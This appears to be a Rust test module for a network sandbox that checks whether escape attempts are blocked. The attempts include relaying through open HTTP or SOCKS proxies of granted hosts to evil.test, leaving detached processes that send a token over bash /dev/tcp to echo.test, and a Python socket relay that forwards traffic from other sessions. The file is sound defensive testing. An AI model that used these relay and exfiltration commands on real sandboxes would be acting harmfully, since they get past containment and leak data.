//! Relays: what a granted host does with what it is sent is not ours to see, and named so in SECURITY.md; what stays
//! behind when the command has ended is.

use std::time::Duration;

use ringfence_testing::{Scene, Session, Test, eventually};

use crate::attempt::{attempt, heard, on_machine};
use crate::row::{Row, drill};

pub(crate) fn rows() -> Vec<Row> {
    vec![
        attempt("relay-open-proxy", "goes anywhere through an open proxy of a granted host")
            .grant(["proxy.test:8888"])
            .python("escaped(greeting_on(*connect_through('proxy.test:8888', 'evil.test:4242')))")
            .denied("proxy.test")
            .row(),
        attempt("relay-open-proxy-09", "the same by a line without a version")
            .grant(["proxy.test:8888"])
            .python(
                "got = say('proxy.test', 8888, b'GET http://evil.test/{token}\\r\\n\\r\\n')\n\
                 if b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))",
            )
            .denied("proxy.test")
            .unheard()
            .row(),
        attempt("relay-open-proxy-09-lower-case", "the same in small letters, which that proxy takes too")
            .grant(["proxy.test:8888"])
            .python(
                "got = say('proxy.test', 8888, b'get http://evil.test:8080/{token}\\r\\n\\r\\n')\n\
                 if b'seen:' in got: escaped('the server took it')\nheld(repr(got[:300]))",
            )
            .denied("proxy.test")
            .unheard()
            .row(),
        attempt("relay-open-socks", "goes anywhere through an open SOCKS proxy of a granted host")
            .grant(["proxy.test:1080"])
            .python("escaped(greeting_on(socks_through('proxy.test:1080', 'evil.test', 4242)))")
            .row()
            .not_a_boundary(|_| true),
        attempt("relay-other-port", "uses the open proxy of a host that is granted on another port")
            .grant(["proxy.test:443"])
            .python("escaped(greeting_on(*connect_through('proxy.test:8888', 'evil.test:4242')))")
            .denied("proxy.test")
            .row(),
        attempt("relay-upstream-proxy", "speaks to the machine's own upstream proxy directly")
            .grant(["good.test"])
            .python("escaped(greeting_on(*connect_through('192.0.2.80:8888', 'evil.test:4242')))")
            .row(),
        left_behind(
            "left-behind",
            "( sleep 0.7; exec 3<>/dev/tcp/echo.test/4242; echo {token} >&3; sleep 1 ) &",
        ),
        left_behind(
            "left-behind-session",
            "setsid sh -c 'setsid bash -c \"sleep 0.7; exec 3<>/dev/tcp/echo.test/4242; echo {token} >&3; sleep 1\" &' ",
        ),
        left_behind(
            "left-behind-connected",
            "exec 3<>/dev/tcp/echo.test/4242; ( trap '' HUP TERM; sleep 0.7; echo {token} >&3; sleep 1 ) &",
        ),
        left_in_session(),
    ]
}

/// A relay: what it is sent, on loopback, by an abstract socket or by one in the workspace, goes to a granted host. It
/// also says by itself that it lives. It ends by itself some day, for the twin's sake.
const RELAY: &str = r#"
import os, selectors, socket, sys, time
token, place = sys.argv[1:]
out = socket.create_connection(("echo.test", 4242), 5)
chosen = selectors.DefaultSelector()
for family, address in [
    (socket.AF_INET, ("127.0.0.1", 7777)), (socket.AF_UNIX, "\0relay-" + token), (socket.AF_UNIX, place),
]:
    listener = socket.socket(family)
    listener.bind(address)
    listener.listen()
    chosen.register(listener, selectors.EVENT_READ)
os.chmod(place, 0o777)
end = time.time() + 40
while time.time() < end:
    out.sendall((token + "-lives\n").encode())
    for key, _ in chosen.select(0.1):
        stream, _ = key.fileobj.accept()
        out.sendall(stream.recv(1000))
"#;

/// Whoever gets through to the relay has the token sent.
const THROUGH: &str = r#"
import socket, sys
token, place, word = sys.argv[1:]
for family, address in [
    (socket.AF_INET, ("127.0.0.1", 7777)), (socket.AF_UNIX, "\0relay-" + token), (socket.AF_UNIX, place),
]:
    try:
        stream = socket.socket(family)
        stream.connect(address)
        stream.sendall((token + word + "\n").encode())
    except OSError as error:
        print(address, error)
"#;

/// A process that stays in a session has what the session was granted: it serves nobody outside it, and ends with it.
fn left_in_session() -> Row {
    let command = |script: &str, scene: &Scene, place: &str, word: &str| -> Vec<String> {
        let mut command = ["/usr/bin/python3", "-c", script, &scene.token, place].map(str::to_owned).to_vec();
        command.extend((!word.is_empty()).then(|| word.to_owned()));
        command
    };
    drill(
        "left-in-session",
        "sends the token through a process that was left in a session with more grants",
        "it is about a session",
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            let says = |word: &str| internet.recorder.heard(&format!("{}{word}", scene.token));
            let workspace = scene.workspace().display().to_string();
            let flags = ["--profile", "restrictive", "--workspace", &workspace];
            internet.machine.within(|| {
                let session =
                    Session::create(&scene, flags.into_iter().chain(["--allow-host", "echo.test:4242"]));
                let relay = command(RELAY, &scene, "/workspace/relay", "");
                let left = session.exec_test(&["-d"]).plain().run(relay);
                if left.exit != 0 {
                    return Err(left.describe());
                }
                eventually("the relay says that it lives", || says("-lives"));
                // From within it can be used.
                let own = session.exec(command(THROUGH, &scene, "/workspace/relay", "-own"));
                eventually(&format!("the relay relays\n{}", own.describe()), || says("-own"));
                // From another sandbox, which has no network but the same workspace, and from another session.
                let test = Test::in_scene(&scene).args(flags);
                let run = test.run(command(THROUGH, &scene, "/workspace/relay", "-other"));
                let other = Session::create(&scene, flags);
                let exec = other.exec(command(THROUGH, &scene, "/workspace/relay", "-other"));
                std::thread::sleep(Duration::from_millis(500));
                for outcome in [&run, &exec] {
                    if outcome.exit != 0 || outcome.output.lines().count() != 3 || says("-other") {
                        return Err(format!("it was not refused three times\n{}", outcome.describe()));
                    }
                }
                session.remove();
                std::thread::sleep(Duration::from_millis(300));
                internet.recorder.forget();
                std::thread::sleep(Duration::from_millis(500));
                if says("-lives") { Err("it still speaks".to_owned()) } else { Ok(()) }
            })
        },
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            let place = scene.workspace().join("relay").display().to_string();
            let quote = |command: Vec<String>| {
                let words = command.iter().map(|word| format!("'{}'", word.replace('\'', "'\\''")));
                words.collect::<Vec<_>>().join(" ")
            };
            let line = format!(
                "{} >/dev/null 2>&1 </dev/null & relay=$!; sleep 1; {}; sleep 0.5; kill $relay",
                quote(command(RELAY, &scene, &place, "")),
                quote(command(THROUGH, &scene, &place, "-other")),
            );
            let (text, errors) = on_machine(internet, &scene, &["bash", "-c", &line].map(str::to_owned));
            let is_heard = internet.recorder.heard(&format!("{}-other", scene.token));
            if is_heard { Ok(()) } else { Err(format!("nothing was heard: {text}{errors}")) }
        },
    )
}

/// A process that outlives its command has no network any more, because it has no life any more.
fn left_behind(name: &str, script: &'static str) -> Row {
    let line = |scene: &Scene| {
        // Its output is its own, so that nobody waits for it.
        format!("{{ {}\n}} >/dev/null 2>&1 </dev/null; exit 0", script.replace("{token}", &scene.token))
    };
    drill(
        name,
        "leaves a process behind that sends the token when the command has ended",
        "in a session such a process may stay, and has what the session was granted",
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            let test = Test::in_scene(&scene).profile("restrictive").args(["--allow-host", "echo.test:4242"]);
            let outcome = internet.machine.within(|| test.run(["bash", "-c", &line(&scene)]));
            if outcome.exit != 0 {
                return Err(outcome.describe());
            }
            std::thread::sleep(Duration::from_millis(1500));
            heard(internet, &scene.token).map_or(Ok(()), |how| Err(how.to_owned()))
        },
        move |identity| {
            let (internet, scene) = (crate::internet(), Scene::new(identity));
            // `timeout` would end it too: it takes a session of its own.
            let args = ["setsid", "-w", "bash", "-c", &line(&scene)].map(str::to_owned);
            let (text, errors) = on_machine(internet, &scene, &args);
            std::thread::sleep(Duration::from_millis(1500));
            heard(internet, &scene.token).map(|_| ()).ok_or(format!("nothing was heard: {text}{errors}"))
        },
    )
}
